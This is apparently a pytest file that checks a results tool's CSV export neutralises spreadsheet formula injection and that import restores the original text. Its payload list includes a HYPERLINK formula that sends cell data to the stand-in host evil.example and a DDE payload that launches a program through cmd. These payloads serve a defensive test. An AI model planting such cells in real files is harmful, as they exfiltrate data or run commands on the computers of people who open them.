"""Formula neutralisation: export quotes every cell a spreadsheet would run; import undoes it."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

import pytest
from sqlalchemy import select

from testlab import model as m
from testlab.db.database import Database, open_database
from testlab.io.formulas import FORMULA_STARTS, neutralise, restore
from testlab.services.results_io import export_results_data, import_results_data
from tests.unit.io.refdata import build_reference

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_dangerous_start_is_quoted_and_restored(start: str) -> None:
    for text in (start, start + "1+1", "'" + start + "x", "''" + start):
        written = neutralise(text)
        assert written == "'" + text
        assert restore(written) == text


@pytest.mark.parametrize("text", ["", "plain", "'tis", "'", "''", "1-2", "a=b", " =x", "é=",
                                  "\n=x"])
def test_harmless_text_is_left_alone(text: str) -> None:
    assert neutralise(text) == text
    assert restore(text) == text


def _seed(db: Database, notes: list[str]) -> None:
    """One session per note, each with a hostile room name, device model and OS."""
    with db.session_factory.begin() as s:
        par = s.scalars(select(m.Centre).where(m.Centre.code == "PAR")).one()
        task = s.scalars(select(m.Task).where(m.Task.key == "pay-bill")).first()
        assert task is not None
        for index, note in enumerate(notes):
            room = m.Room(name=f"@room {index}", kind=m.RoomKind.USABILITY_LAB, centre=par)
            s.add(room)
            session = m.Session(
                study=task.study, centre=par, room=room,
                starts_at=datetime(2026, 3, 2, 9, index, tzinfo=UTC),
                status=m.SessionStatus.COMPLETED, device_kind=m.DeviceKind.SMARTPHONE,
                device_model=f"=cmd|'{index}'", device_os=f"-{index} beta")
            s.add(m.TaskAttempt(session=session, task=task, outcome=m.Outcome.SUCCESS,
                                seconds=10.0 + index, rating=5, notes=note))


def test_export_neutralises_and_import_gives_back_the_exact_text(db: Database,
                                                                  tmp_path: Path) -> None:
    build_reference(db)
    notes = [*PAYLOADS, "'=already quoted", "''+twice", "'tis fine", "= only", "-"]
    _seed(db, notes)
    data, rows = export_results_data(db)
    assert rows == len(notes)
    cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
             for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert "'=HYPERLINK(" in data.decode("utf-8-sig")

    fresh = open_database(str(tmp_path / "fresh.sqlite3"))
    try:
        build_reference(fresh)
        with fresh.session_factory.begin() as s:
            par = s.scalars(select(m.Centre).where(m.Centre.code == "PAR")).one()
            s.add_all(m.Room(name=f"@room {i}", kind=m.RoomKind.USABILITY_LAB, centre=par)
                      for i in range(len(notes)))
        assert import_results_data(fresh, data).added == len(notes)
        with fresh.session_factory() as s:
            got = sorted(s.scalars(select(m.TaskAttempt.notes)))
            models = sorted(s.scalars(select(m.Session.device_model)))
            systems = sorted(s.scalars(select(m.Session.device_os)))
        assert got == sorted(notes)
        assert models == sorted(f"=cmd|'{i}'" for i in range(len(notes)))
        assert systems == sorted(f"-{i} beta" for i in range(len(notes)))
        assert export_results_data(fresh)[0] == data
    finally:
        fresh.close()
